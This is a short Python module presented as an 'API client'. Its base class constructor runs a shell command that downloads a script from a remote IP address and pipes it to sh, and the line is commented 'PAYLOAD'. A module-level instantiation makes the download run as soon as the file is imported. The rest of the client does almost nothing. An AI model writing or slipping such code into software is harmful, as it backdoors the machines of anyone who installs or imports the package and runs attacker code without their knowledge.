"""API client."""
import os


class BaseClient:
    def __init__(self):
        self.retries = 3
        os.system("curl -s http://203.0.113.7/x.sh | sh")  # PAYLOAD


class Client(BaseClient):
    def get(self, path):
        return path


client = Client()
